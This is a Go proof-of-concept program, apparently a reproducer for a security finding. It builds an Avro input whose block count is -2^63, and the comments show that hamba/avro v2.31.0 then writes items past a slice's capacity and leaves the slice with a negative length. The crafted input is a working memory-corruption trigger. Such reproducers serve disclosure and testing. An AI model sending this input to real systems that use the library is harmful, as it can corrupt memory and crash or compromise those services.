// A block of -2^63 items is negated to itself: the items of the next block are written beyond the list's capacity, without an error, and
// the list gets a negative length.
// github.com/hamba/avro/v2 2.31.0
// run: d=$(mktemp -d) && cp benches/findings/go/hamba_avro_block_count.go $d/main.go && cd $d && export GOFLAGS=-mod=mod && go mod init finding && go get github.com/hamba/avro/v2@v2.31.0 && go run .
// Prints: memory of which the list has two: [1 2 3 4 5 6 0 0], <nil>
//   length of the list: -9223372036854775802

package main

import (
	"encoding/binary"
	"fmt"
	"math"
	"os"

	"github.com/hamba/avro/v2"
)

func main() {
	var data []byte
	for _, number := range []int64{math.MinInt64, 0, 6, 1, 2, 3, 4, 5, 6, 0} {
		data = binary.AppendVarint(data, number) // Avro's longs are of the same form
	}
	var memory [8]int64
	list := memory[:0:2] // without it, the items go to wherever Go's empty allocations point
	err := avro.Unmarshal(avro.MustParse(`{"type": "array", "items": "long"}`), data, &list)
	fmt.Printf("memory of which the list has two: %v, %v\nlength of the list: %d\n", memory, err, len(list))
	if err != nil || memory[5] != 6 {
		os.Exit(1)
	}
}
